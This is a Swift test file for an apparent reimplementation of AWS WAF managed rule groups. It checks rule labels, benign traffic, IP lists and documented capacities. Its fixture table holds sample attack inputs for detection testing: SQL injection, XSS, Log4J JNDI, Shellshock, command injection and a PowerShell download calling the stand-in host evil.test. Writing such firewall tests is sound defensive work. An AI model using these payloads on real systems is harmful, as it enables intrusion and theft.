// The managed rule groups: what each rule finds in its part of a request, what passes all of them, and how they are told.

import AWSCore
import AWSWire
import CastleTesting
import GateProtocol
import ServiceKit
import Testing
import WAFv2Model

@testable import WAFv2Service
@testable import WebACL

/// A request in front of a managed group.
private struct Probe {
  var method = "GET"
  var path = "/"
  var query = ""
  var headers = [("Host", "shop.test"), ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Firefox/140.0")]
  var body = ""

  /// With a text in the part that a rule's name ends with.
  init(_ text: String, in rule: String) {
    let encoded = text.utf8.map { byte -> String in
      let isPlain = (0x30...0x39).contains(byte) || (0x41...0x5A).contains(byte) || (0x61...0x7A).contains(byte)
      return isPlain ? String(UnicodeScalar(byte)) : "%" + String(byte >> 4, radix: 16) + String(byte & 15, radix: 16)
    }.joined()
    if rule.hasSuffix("_METHOD") { method = text }
    if rule.hasSuffix("_URIPATH") { path = text.hasPrefix("/") ? text : "/" + encoded }
    if rule.hasSuffix("_QUERYSTRING") { query = text.contains("=") ? text : "a=" + encoded }
    if rule.hasSuffix("_QUERYARGUMENTS") { query = "x=1&a=" + encoded }
    if rule.hasSuffix("_BODY") { body = text }
    if rule.hasSuffix("_COOKIE") { headers.append(("Cookie", "id=7; a=" + encoded)) }
    if rule.hasSuffix("_HEADER") { headers.append(("X-Text", text)) }
  }

  init(
    method: String = "GET", path: String = "/", query: String = "", headers: [(String, String)] = [], body: String = ""
  ) {
    self.method = method
    self.path = path
    self.query = query
    self.headers += headers
    self.body = body
  }

  /// The labels that a group's rules add.
  func labels(_ judge: Judge, from source: String = "192.0.2.1") throws -> [String] {
    let evaluator = judge.evaluator
    // Everything stays in place while it is judged.
    let pieces = [method, path, query, body] + headers.flatMap { [$0.0, $0.1] }
    let bytes = pieces.map { Array($0.utf8) }
    let views = bytes.map { piece in
      let view = UnsafeMutableBufferPointer<UInt8>.allocate(capacity: max(1, piece.count))
      _ = view.initialize(from: piece)
      return UnsafeBufferPointer(rebasing: view[..<piece.count])
    }
    defer { for view in views { view.deallocate() } }
    evaluator.request.begin(
      source: try #require(SourceAddress(source)), method: views[0], path: views[1], query: views[2])
    for index in headers.indices { evaluator.request.add(name: views[4 + 2 * index], value: views[5 + 2 * index]) }
    evaluator.request.setBody(views[3], isCut: false)
    _ = evaluator.evaluate(time: 1, resource: "lb")
    return evaluator.trail.labels
  }
}

/// A group whose rules all only count.
private struct Judge {
  let evaluator: WebACLEvaluator

  init(_ group: ManagedGroup, _ known: AddressKnowledge = AddressKnowledge()) throws {
    let overrides = Dictionary(uniqueKeysWithValues: group.rules.map { ($0.name, WebACL.Action.count()) })
    var acl = WebACL(
      id: "a", rules: [.init(name: "g", priority: 0, .group(.init(group: group.content.id, overrides: overrides)))])
    acl.ruleGroups = [group.content]
    evaluator = WebACLEvaluator(try CompiledWebACL(acl), addresses: known)
  }
}

@Suite("WAF: managed rule groups")
struct ManagedGroupTests {
  /// What a family of rules is to find, in each part that it looks at.
  private static let attacks: [(group: ManagedGroup, family: String, text: String)] = [
    (ManagedRules.common, "EC2MetaDataSSRF", "http://169.254.169.254/latest/meta-data/"),
    (ManagedRules.common, "GenericLFI", "../../secret"),
    (ManagedRules.common, "RestrictedExtensions", "/backup.ini"),
    (ManagedRules.common, "GenericRFI", "see ftps://203.0.113.9/x"),
    (ManagedRules.common, "CrossSiteScripting", "<script>alert(1)</script>"),
    (ManagedRules.admin, "AdminProtection", "/tools/sqlmanager/"),
    (ManagedRules.badInputs, "JavaDeserializationRCE", "(java.lang.Runtime).getRuntime().exec(\"whoami\")"),
    (ManagedRules.badInputs, "PROPFIND", "PROPFIND"),
    (ManagedRules.badInputs, "ExploitablePaths", "/WEB-INF/web.xml"),
    (ManagedRules.badInputs, "Log4JRCE", "${jndi:ldap://example.com/}"),
    (ManagedRules.badInputs, "ReactJSRCE", #"{"then":"$1:__pr\u006fto__:then","status":"resolved_model"}"#),
    (ManagedRules.badInputs, "ReactJSRCE", #"{"_formData":{"get":"$1:constructor:constructor"}}"#),
    (ManagedRules.sql, "SQLi", "1' or '1'='1"),
    (ManagedRules.sql, "SQLiExtendedPatterns", "1 and 1=(select 1 from information_schema.tables)"),
    (ManagedRules.sql, "SQLiExtendedPatterns", "x; waitfor/**/delay '0:0:5'"),
    (ManagedRules.linux, "LFI", "/proc/version"),
    (ManagedRules.unix, "UNIXShellCommandsVariables", "echo $HOME"),
    (ManagedRules.unix, "UNIXShellCommandsVariables", "echo $PATH"),
    (ManagedRules.unix, "UNIXShellCommandsVariables", "1; /bin/cat /etc/hosts"),
    (ManagedRules.unix, "UNIXShellCommandsVariables", "x|whoami"),
    (ManagedRules.unix, "UNIXShellCommandsVariables", "$(curl http://evil.test)"),
    (ManagedRules.unix, "UNIXShellCommandsVariables", "() { :; }; echo"),
    (ManagedRules.windows, "WindowsShellCommands", "||nslookup"),
    (ManagedRules.windows, "WindowsShellCommands", ";cmd"),
    (ManagedRules.windows, "WindowsShellCommands", "cmd.exe /c dir"),
    (ManagedRules.windows, "PowerShellCommands", "Invoke-Expression $x"),
    (ManagedRules.windows, "PowerShellCommands", "(New-Object Net.WebClient).DownloadString('http://evil.test')"),
    (ManagedRules.php, "PHPHighRiskMethodsVariables", "fsockopen('10.0.0.1', 80)"),
    (ManagedRules.php, "PHPHighRiskMethodsVariables", "echo $_GET['a']"),
    (ManagedRules.php, "PHPHighRiskMethodsVariables", "php://input"),
    (ManagedRules.wordPress, "WordPressExploitableCommands", "action=do-reset-wordpress"),
    (ManagedRules.wordPress, "WordPressExploitablePaths", "/blog//xmlrpc.php"),
    (ManagedRules.wordPress, "WordPressExploitablePaths", "/wp-content/uploads/2026/x.php"),
  ]

  @Test("each rule finds what it is for in its part of the request, and says so by the label that AWS documents")
  func attacks() throws {
    var found: Set<String> = []
    var judges: [String: Judge] = [:]
    for (group, family, text) in Self.attacks {
      let judge = try judges[group.name] ?? Judge(group)
      judges[group.name] = judge
      let rules = group.rules.filter { $0.name.hasPrefix(family + "_") }
      #expect(!rules.isEmpty, "\(family)")
      for rule in rules {
        let labels = try Probe(text, in: rule.name).labels(judge)
        #expect(labels.contains(group.labelNamespace + rule.labels[0]), "\(rule.name): \(text): \(labels)")
        found.insert(rule.name)
      }
    }
    let sizes = Set(ManagedRules.common.rules.map(\.name).filter { $0.hasPrefix("Size") })
    let others: Set = ["NoUserAgent_HEADER", "UserAgent_BadBots_HEADER"]
    let all = ManagedRules.groups.filter { $0.version != nil }.flatMap(\.rules).map(\.name)
    #expect(Set(all).subtracting(found).subtracting(sizes) == others)
  }

  @Test("sizes and user agents are looked at")
  func sizes() throws {
    let judge = try Judge(ManagedRules.common)
    func labels(_ probe: Probe) throws -> [String] {
      try probe.labels(judge).map { String($0.split(separator: ":").last ?? "") }
    }
    var bare = Probe()
    bare.headers = [("Host", "a")]
    #expect(try labels(bare) == ["NoUserAgent_Header"])
    bare.headers.append(("User-Agent", "Nmap Scripting Engine"))
    #expect(try labels(bare) == ["BadBots_Header"])
    #expect(try labels(Probe(query: String(repeating: "a", count: 2049))) == ["SizeRestrictions_QueryString"])
    #expect(try labels(Probe(path: "/" + String(repeating: "a", count: 1024))) == ["SizeRestrictions_URIPath"])
    #expect(try labels(Probe(body: String(repeating: "a", count: 8193))) == ["SizeRestrictions_Body"])
    let cookie = Probe(headers: [("Cookie", String(repeating: "a", count: 10_241))])
    #expect(try labels(cookie) == ["SizeRestrictions_Cookie_Header"])
    #expect(try labels(Probe(query: String(repeating: "a", count: 2048))).isEmpty)
  }

  @Test("what people and their programs send passes every group")
  func harmless() throws {
    let probes = [
      Probe(path: "/products/42", query: "page=2&sort=price&q=O%27Reilly"),
      Probe(path: "/search", query: "q=cats+and+dogs;ids=3&type=book&cmd=show&ping=1"),
      Probe(path: "/a/b;jsessionid=12/c", headers: [("Cookie", "a=1; id=7; ls=3; cmd=x; ping=1; env=prod")]),
      Probe(headers: [("Accept", "text/html;q=0.9, */*;q=0.8"), ("Accept-Language", "de-DE, de;q=0.9, en;q=0.8")]),
      Probe(headers: [
        ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)")
      ]),
      Probe(
        method: "POST", headers: [("Content-Type", "application/json")],
        body: #"{"query":"query($user: ID!, $path: String) { user(id: $user) { name } }","variables":{"user":"1"}}"#),
      Probe(
        method: "POST", headers: [("Content-Type", "application/x-www-form-urlencoded")],
        body: "name=Anna+Net&text=We+include+(for+free)+a+cat%3B+and+the+system+(all+of+it)+works&price=%245%3A00"),
      Probe(method: "POST", body: "Dear Sir; id est the id of my order. Please type c: or dir; thanks | regards"),
      Probe(method: "POST", body: "price in $: 5, $HOMEPAGE, a && b, R&D, http://example.com/x, 50% off"),
      Probe(path: "/wp-content/themes/x/style.css"), Probe(path: "/administration-guide"),
      Probe(method: "POST", body: #"{"a":["$1","$@2"],"title":"the constructor: a story","b":"$5:00"}"#),
    ]
    for group in ManagedRules.groups {
      let judge = try Judge(group)
      for probe in probes {
        let labels = try probe.labels(judge)
        #expect(labels.isEmpty, "\(probe)")
      }
    }
  }

  @Test("lists of addresses match who is on them; without a file nobody is")
  func lists() throws {
    var book = AddressKnowledge()
    for line in [
      "192.0.2.0/24,AWSManagedIPReputationList", "192.0.2.7,AWSManagedIPDDoSList", "192.0.2.7,HostingProviderIPList",
    ] {
      let isTaken = book.lists.insert(line: line)
      #expect(isTaken)
    }
    let own = "awswaf:managed:aws:amazon-ip-list:"
    let (reputation, anonymous) = (ManagedRules.reputation, ManagedRules.anonymous)
    let judge = try Judge(reputation, book)
    #expect(try Probe().labels(judge) == [own + "AWSManagedIPReputationList"])
    #expect(
      try Probe().labels(judge, from: "192.0.2.7")
        == [own + "AWSManagedIPReputationList", own + "AWSManagedIPDDoSList"])
    #expect(
      try Probe().labels(Judge(anonymous, book), from: "192.0.2.7")
        == ["awswaf:managed:aws:anonymous-ip-list:HostingProviderIPList"])
    #expect(try Probe().labels(Judge(reputation)).isEmpty && Probe().labels(Judge(anonymous)).isEmpty)
    #expect(Set((reputation.rules + anonymous.rules).map(\.name)) == AddressLists.names)
  }

  @Test("names, capacities and actions are those of AWS's documentation")
  func documented() {
    let capacities = Dictionary(uniqueKeysWithValues: ManagedRules.groups.map { ($0.name, $0.capacity) })
    #expect(
      capacities == [
        "AWSManagedRulesCommonRuleSet": 700, "AWSManagedRulesAdminProtectionRuleSet": 100,
        "AWSManagedRulesKnownBadInputsRuleSet": 200, "AWSManagedRulesSQLiRuleSet": 200,
        "AWSManagedRulesLinuxRuleSet": 200, "AWSManagedRulesUnixRuleSet": 100, "AWSManagedRulesWindowsRuleSet": 200,
        "AWSManagedRulesPHPRuleSet": 100, "AWSManagedRulesWordPressRuleSet": 100,
        "AWSManagedRulesAmazonIpReputationList": 25, "AWSManagedRulesAnonymousIpList": 50,
      ])
    func labels(_ group: ManagedGroup) -> [String] { group.rules.flatMap(\.labels) }
    #expect(
      labels(ManagedRules.sql) == [
        "SQLi_QueryArguments", "SQLiExtendedPatterns_QueryArguments", "SQLi_Body", "SQLiExtendedPatterns_Body",
        "SQLiExtendedPatterns_Header", "SQLiExtendedPatterns_UriPath", "SQLi_Cookie", "SQLi_URIPath",
      ])
    #expect(labels(ManagedRules.wordPress).last == "WordPressExploitablePaths_URIPATH")
    #expect(
      labels(ManagedRules.common).suffix(2) == ["CrossSiteScripting_Body", "CrossSiteScripting_URIPath"])
    #expect(ManagedRules.groups.allSatisfy { Set($0.rules.map(\.name)).count == $0.rules.count })
  }
}
